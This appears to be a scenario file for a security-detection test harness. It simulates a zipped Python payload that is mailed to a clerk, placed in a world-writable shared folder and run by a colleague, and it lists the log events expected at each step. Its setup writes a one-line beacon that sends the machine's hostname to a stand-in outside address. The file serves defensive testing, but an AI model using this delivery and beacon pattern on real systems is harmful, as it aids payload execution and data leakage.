# Who received it and who ran it are two people.
title="Zipped program handed on through a shared folder, run by a colleague"
what="The clerk unpacks an attachment and puts it, under another name, into a folder that everybody can read. The buyer runs it with Python as it is, a zip file; it fetches from 203.0.113.67."
host=mx1.example.org user=buyer daemons="cron sshd" audit_rules=audit-wide.rules

setup() {
  mkdir -p "$base/out/pk"
  printf 'import urllib.request,os\nurllib.request.urlopen("http://203.0.113.67/c?"+os.uname().nodename)\n' > "$base/out/pk/__main__.py"
  (cd "$base/out/pk" && zip -q ../quarter.zip __main__.py)
  install -d -m 1777 /opt/exchange
}
act() {
  small_talk 2
  mail_in --from audit@example.com --to clerk@example.org --subject "Quarter" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/quarter.zip"
  wait_mail clerk 1
  ssh_as clerk <<'L'
mkdir a; cd a
munpack ../Maildir/new/*
cp quarter.zip /opt/exchange/q3-tool.zip
chmod 644 /opt/exchange/q3-tool.zip
L
  sleep 5
  ssh_as buyer <<'L'
python3 /opt/exchange/q3-tool.zip
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message arrives'
  exec_step unpack 'munpack ' 'the clerk unpacks it'
  exec_step hand-on 'cp quarter.zip /opt/exchange/q3-tool.zip' 'and hands it on'
  exec_step execute 'python3 /opt/exchange/q3-tool.zip' 'the buyer runs it'
  net_step fetch 'python3.* 203.0.113.67:80' 'it calls out'
}
